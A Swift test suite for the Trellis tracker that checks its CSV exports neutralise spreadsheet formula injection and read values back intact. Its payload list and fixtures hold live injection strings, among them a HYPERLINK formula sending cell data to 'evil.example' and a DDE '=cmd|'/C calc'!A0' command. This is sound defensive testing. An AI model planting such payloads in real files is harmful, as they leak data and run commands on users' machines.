import Foundation
import Testing
@testable import TrellisModel
import TrellisTestSupport
@testable import TrellisTracker
@testable import TrellisTrackerSQLite

/// Every CSV Trellis writes is safe to open in a spreadsheet, and reads back unchanged.
@Suite struct CSVSafetyTests {
    static let payloads = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd", "-2+3", "@SUM(1)", "=cmd|'/C calc'!A0",
                           "\tTAB=1", "\r=1", "'=x"]

    @Test(arguments: payloads)
    func formulaCellsAreNeutralisedAndReadBack(payload: String) throws {
        let cell = CSVField.escape(payload)
        #expect(cell.hasPrefix("\"'"), "\(cell) must start with a quoted apostrophe")
        let parsed = try CSVTable.parse(Data(("v\n" + cell + "\n").utf8)).records[0].fields[0]
        #expect(CSVField.unescape(parsed) == payload)
    }

    @Test func numbersAndPlainTextStayAsTheyAre() {
        for value in ["-2", "-0.5", "+3", "85", "Dana Rivera", "a=b", ""] { #expect(CSVField.escape(value) == value) }
        #expect(CSVField.unescape("'hello") == "'hello", "only a neutralising apostrophe is removed")
        #expect(CSVField.unescape("''=x") == "'=x", "exactly one apostrophe is removed")
    }

    /// A cell a spreadsheet would run: it begins with = + - @ (or tab or CR), and is not a number.
    static func dangerous(_ csv: String) throws -> [String] {
        try CSVTable.parse(Data(csv.utf8)).records.flatMap(\.fields).filter { cell in
            guard let first = cell.first, "=+-@\t\r".contains(first) else { return false }
            return Double(cell) == nil
        }
    }

    @Test func everyCSVCommandNeutralisesEveryPayload() async throws {
        let fixture = try await TrackerFixture()
        let payload = "=cmd|'/C calc'!A0"
        try await fixture.tracker.addTrainee(Trainee(id: "evil", name: "=HYPERLINK(\"http://x\")", cohort: "@SUM(1)", site: "+cmd",
                                               supervisor: "-cmd", startDate: CalendarDate("2025-01-01")!))
        try await fixture.record("evil", "coaching-session", date: "2026-01-05", observer: payload, minutes: "30", competencies: "listening-well")
        try await fixture.record("evil", "continuing-education", date: "2026-01-06", hours: "1", topic: "@SUM(1)", category: "ethics")
        let environment = ["TRELLIS_DB": fixture.databasePath]
        let commands: [[String]] = [
            ["report", "--format", "csv"], ["export", "--format", "csv"], ["trainee", "list", "--format", "csv"],
            ["progress", "evil", "--format", "csv"], ["coaching", "--format", "csv", "--since", "2025-01-01", "--until", "2026-11-23"],
        ]
        for command in commands {
            let result = try runTrellis(command + ["--curriculum", Fixtures.valid, "--today", "2026-11-23"], environment: environment)
            #expect(result.status == 0, "\(command): \(result.error)")
            #expect(try Self.dangerous(result.output) == [], "\(command) wrote a formula: \(result.output)")
        }
        let export = try runTrellis(["export", "--format", "csv", "--curriculum", Fixtures.valid], environment: environment)
        #expect(export.output.contains("\"'\(payload)\""))
    }
}
